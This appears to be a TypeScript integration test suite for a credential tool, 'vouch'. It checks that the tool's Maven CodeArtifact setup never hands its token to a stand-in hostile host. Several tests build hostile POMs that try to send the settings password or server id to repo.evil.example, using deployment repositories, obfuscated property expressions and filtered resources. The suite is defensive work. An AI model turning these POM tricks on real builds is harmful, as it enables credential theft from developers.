/**
 * `vouch setup codeartifact --tool maven` and Maven of several years: a deployment, a build that uses it, and projects
 * whose data want the token. Nobody but the repository gets it.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { ended, type Finished, type Laptop, startLaptop } from "../../laptop.ts";
import { mavenEnvironment, mavens, requiresMaven } from "../../toolchains/maven.ts";
import { names } from "../../sandbox/main.ts";
import { filesContaining } from "../disk.ts";
import { holdsToken } from "../hostile/listener.ts";
import { mavenProject, mavenUserProject } from "../projects.ts";

const repository = `https://${names.packageHost}/maven/${names.repository}/`;
const evilHost = "repo.evil.example";
const evil = `https://${evilHost}/maven/`;
const setUp = ["vouch", "setup", "codeartifact", "--domain", names.domain, "--repository", names.repository];

/** What the user had in settings.xml before. */
const before = `<settings>
  <!-- mine -->
  <servers/>
  <interactiveMode>false</interactiveMode>
</settings>
`;

describe.skipIf(!requiresMaven())("mvn", () => {
  let laptop: Laptop;
  let settings: string;
  /** What the hostile host was sent; it asks for a password. */
  const requests: string[] = [];

  beforeAll(async () => {
    laptop = await startLaptop({
      routes: [
        {
          hosts: [evilHost],
          async handle(request) {
            requests.push(
              `${request.method} ${request.url} ${JSON.stringify([...request.headers])} ${await request.text()}`,
            );
            return new Response("no\n", { status: 401, headers: { "www-authenticate": 'Basic realm="x"' } });
          },
        },
      ],
    });
    await laptop.getReady();
    settings = join(laptop.home, ".m2/settings.xml");
    mkdirSync(dirname(settings));
    writeFileSync(settings, before);
    await ended(laptop.run([...setUp, "--tool", "maven"]));
  });
  afterAll(async () => laptop?.stop());

  afterEach(() => {
    expect(requests.splice(0).filter(holdsToken)).toEqual([]);
    expect(laptop.sandbox.refused).toEqual([]);
  });

  describe.each(Object.keys(mavens))("%s", (version) => {
    let env: Record<string, string>;
    let count = 0;
    const place = (name: string): string => join(laptop.home, `${version.replaceAll(" ", "-")}-${name}`);
    const maven = (cwd: string, ...goals: string[]): Promise<Finished> =>
      laptop.run(["mvn", "--batch-mode", ...goals], { cwd, env });
    const versionOf = (folder: string, text: string): void => {
      const pom = join(folder, "pom.xml");
      writeFileSync(pom, readFileSync(pom, "utf8").replace("<version>1.0.0</version>", `<version>${text}</version>`));
    };
    /** A project of its own, with more in its POM. */
    const project = (more: string, packaging = "pom"): string => {
      const folder = place(`hostile-${count++}`);
      mavenProject(folder);
      const pom = join(folder, "pom.xml");
      writeFileSync(
        pom,
        readFileSync(pom, "utf8").replace("</project>", `<packaging>${packaging}</packaging>${more}</project>`),
      );
      return folder;
    };

    beforeAll(() => {
      env = {
        ...mavenEnvironment(laptop.home, laptop.sandbox, version),
        PATH: [laptop.shims, mavens[version], laptop.env["PATH"]].join(":"),
      };
    });

    test("deploys, and then packages a project that uses the library", async () => {
      const library = mavenProject(place("library"));
      const number = `1.${Object.keys(mavens).indexOf(version)}.0`;
      versionOf(library, number);
      const deployed = await maven(library, "deploy");
      expect(deployed).toMatchObject({ exitCode: 0 });
      expect(deployed.stderr).toContain(`vouch: The POM names no repository to deploy to: it is ${repository}\n`);
      // What deploy installed beside is not what the next build is to find.
      rmSync(join(laptop.home, ".m2/repository/com/example"), { recursive: true });
      const app = mavenUserProject(place("app"));
      const pom = join(app, "pom.xml");
      writeFileSync(
        pom,
        readFileSync(pom, "utf8").replace(
          "<artifactId>my-artifact</artifactId><version>1.0.0<",
          `<artifactId>my-artifact</artifactId><version>${number}<`,
        ),
      );
      const { stdout } = await maven(app, "package");
      expect(stdout).toContain(`${repository}com/example/my-artifact/${number}/my-artifact-${number}.jar`);
      expect(stdout).toContain("BUILD SUCCESS");
      // A released version cannot come again with other content.
      writeFileSync(join(library, "src/main/java/com/example/Other.java"), "package com.example;\n\nclass Other {}\n");
      const again = await maven(library, "deploy");
      expect({ exitCode: again.exitCode, isConflict: again.stdout.includes("409") }).toEqual({
        exitCode: 1,
        isConflict: true,
      });
    });

    test("deploys a snapshot where the POM says, if that is the repository", async () => {
      const target = `<distributionManagement><repository><id>any</id><url>${repository.slice(0, -1)}</url></repository></distributionManagement>`;
      const folder = project(target);
      versionOf(folder, "3.0.0-SNAPSHOT");
      const { exitCode, stderr } = await maven(folder, "deploy");
      expect({ exitCode, said: /vouch: .*/.exec(stderr)?.[0] }).toEqual({ exitCode: 0, said: undefined });
      expect(existsSync(join(laptop.home, ".m2/repository/com/example/my-artifact/3.0.0-SNAPSHOT"))).toBe(true);
    });

    const dist = (id: string): string =>
      `<distributionManagement><repository><id>${id}</id><url>${evil}</url></repository></distributionManagement>`;
    const ids = [`${names.domain}--${names.repository}`, "codeartifact"];
    const plugin = (value: string): string =>
      `<build><plugins><plugin><artifactId>maven-deploy-plugin</artifactId><configuration><altDeploymentRepository>${value}</altDeploymentRepository></configuration></plugin></plugins></build>`;
    const reading = "project.remoteArtifactRepositories[0].id}";
    test.each(ids)(
      "gives no token to distributionManagement with the id %s",
      async (id) => {
        const { stdout, stderr } = await maven(project(dist(id)), "deploy");
        expect(stderr).not.toContain("vouch: No token");
        expect(stdout + stderr).not.toContain("vouch-sandbox-token");
      },
      200_000,
    );

    test("gives no token to the literal id of its mirror, as a build log has it", async () => {
      const id = /<server>\s*<id>(vouch-[0-9a-f]{16})<\/id>/.exec(readFileSync(settings, "utf8"))![1]!;
      const { stderr } = await maven(project(dist(id)), "deploy");
      expect(stderr).toMatch(new RegExp(`vouch: No token for Maven here: .*pom\\.xml has ${id}, an id as`));
    });

    const byProperty = (value: string): string =>
      `<properties><altReleaseDeploymentRepository>${value}</altReleaseDeploymentRepository></properties>`;
    test.each(["altDeploymentRepository", "env.MAVEN_CMD_LINE_ARGS", "sun.java.command"])(
      "tells nobody the id of a deployment by ${%s}",
      async (name) => {
        const { stderr } = await maven(project(byProperty(`x::default::${evil}\${${name}}`)), "deploy");
        expect(requests.filter((request) => /vouch-[0-9a-f]{16}/.test(request))).toEqual([]);
        expect(stderr).toContain(`pom.xml may read your settings by \${${name}}`);
      },
      200_000,
    );

    test("leads no deployment of a POM that has the property itself", async () => {
      const { exitCode, stderr } = await maven(project(byProperty(`x::default::${evil}`)), "deploy");
      expect(exitCode).not.toBe(0);
      expect(stderr).toContain("has a word of its own about altDeploymentRepository");
    });

    test.each([
      ["openly", `\${${reading}`],
      ["by a reference", `&#36;{${reading}`],
      ["by a comment", `$<!-- -->{${reading}`],
      ["by a CDATA section", `$<![CDATA[{]]>${reading}`],
      ["by the old name", "${pom.remoteArtifactRepositories[0].id}"],
      ["by what only begins like an object", "${settingsX.mirrors[0].id}"],
    ])(
      "gives no token to a plugin whose configuration asks for it %s",
      async (_, expression) => {
        const configured = project(plugin(`${expression}::default::${evil}`));
        const { exitCode, stderr } = await maven(configured, "deploy");
        expect(exitCode).not.toBe(0);
        expect(stderr).toMatch(/vouch: No token for Maven here: .*pom\.xml may read your settings by \$\{/);
      },
      200_000,
    );

    test("gives no token where a resource that is filtered asks for it", async () => {
      const resources = "<directory>src/main/resources</directory><filtering>true</filtering>";
      const folder = project(`<build><resources><resource>${resources}</resource></resources></build>`, "jar");
      const file = join(folder, "src/main/resources/a.txt");
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, "${settings.servers[0].password} @settings.servers[0].password@");
      const { stderr } = await maven(folder, "process-resources");
      expect(stderr).toContain(`vouch: No token for Maven here: ${file} may put your settings into what is built by `);
      const made = join(folder, "target/classes/a.txt");
      expect(existsSync(made) && holdsToken(readFileSync(made, "utf8"))).toBe(false);
    });

    test("gives no token to a repository that a dependency or the project names", async () => {
      const named = ids.map((id) => `<repository><id>${id.replace(/\W/g, "-")}</id><url>${evil}</url></repository>`);
      const wanted =
        "<dependencies><dependency><groupId>com.example</groupId><artifactId>absent</artifactId><version>1</version></dependency></dependencies>";
      const { stdout } = await maven(
        project(`<repositories>${named.join("")}</repositories>${wanted}`, "jar"),
        "package",
      );
      // Every repository is led to the user's.
      expect(stdout).toContain(`${repository}com/example/absent/1/absent-1.pom`);
      expect(requests).toEqual([]);
    });
  });

  test("without a session Maven says what is missing", async () => {
    const env = { ...mavenEnvironment(laptop.home, laptop.sandbox), VOUCH_RUNTIME_DIR: join(laptop.folder, "nobody") };
    const { exitCode, stderr } = await laptop.run(["mvn", "--batch-mode", "deploy"], {
      cwd: mavenProject(join(laptop.home, "no-session")),
      env,
    });
    expect(exitCode).not.toBe(0);
    expect(stderr).toContain("Run `vouch login`.");
  });

  test("leaves no token in any file, and settings.xml is as before", async () => {
    expect(filesContaining(laptop.folder, /vouch-sandbox-token|\bASIA[A-Z0-9]{12,}/)).toEqual([]);
    await ended(laptop.run([...setUp, "--tool", "maven", "--remove"]));
    expect(readFileSync(settings, "utf8")).toBe(before);
    expect(existsSync(join(laptop.shims, "mvn"))).toBe(false);
  });
});
